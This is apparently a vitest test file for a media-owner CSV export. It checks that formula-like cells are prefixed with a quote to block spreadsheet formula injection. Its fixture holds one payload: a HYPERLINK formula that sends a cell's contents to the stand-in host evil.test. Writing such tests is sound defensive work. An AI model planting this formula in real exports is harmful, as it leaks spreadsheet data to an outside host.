import type { MediaOwnerDto } from '@plano/core';
import type { ProcessCellForExportParams } from 'ag-grid-community';
import { describe, expect, it } from 'vitest';
import { DATA_COLUMNS } from './media-owner-columns.tsx';
import { mediaOwnersCsvParams } from './media-owners-export.ts';

const HYPERLINK = '=HYPERLINK("http://evil.test/?d="&B2,"Open")';

const owner: MediaOwnerDto = {
  _id: 'o',
  name: HYPERLINK,
  states: ['-Región de Coquimbo'],
  aliases: ['@alias', 'Cordillera'],
  phone: '+56 9 1234 5678',
  email: 'contacto@cordillera.test',
  country: 'Chile',
  inv_uploaded: 'yes',
  inv_last_updated: '2026-03-04T10:00:00.000Z',
  user: null,
};

/** The values the grid's columns give (its valueGetters join the lists). */
const gridValue: Record<string, unknown> = {
  name: owner.name,
  states: owner.states.join(', '),
  aliases: owner.aliases.join(', '),
  phone: owner.phone,
  email: owner.email,
  inv_uploaded: 'yes',
  inv_last_updated: owner.inv_last_updated,
};

function cell(colId: string): ProcessCellForExportParams {
  return {
    column: { getColId: () => colId },
    value: gridValue[colId],
    node: { data: owner },
  } as ProcessCellForExportParams;
}

describe('mediaOwnersCsvParams', () => {
  const params = mediaOwnersCsvParams();
  const written = (colId: string) => params.processCellCallback?.(cell(colId));

  it('guards every formula-like cell with a leading quote, and AG Grid quotes the cells', () => {
    expect(params.suppressQuotes).toBeFalsy();
    expect(written('name')).toBe(`'${HYPERLINK}`);
    expect(written('states')).toBe("'-Región de Coquimbo");
    expect(written('aliases')).toBe("'@alias, Cordillera");
    expect(written('phone')).toBe("'+56 9 1234 5678");
    for (const colId of DATA_COLUMNS) expect(written(colId)).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('keeps the readable values', () => {
    expect(written('email')).toBe('contacto@cordillera.test');
    expect(written('inv_uploaded')).toBe('yes');
    expect(written('inv_last_updated')).toBe('2026-03-04');
  });
});
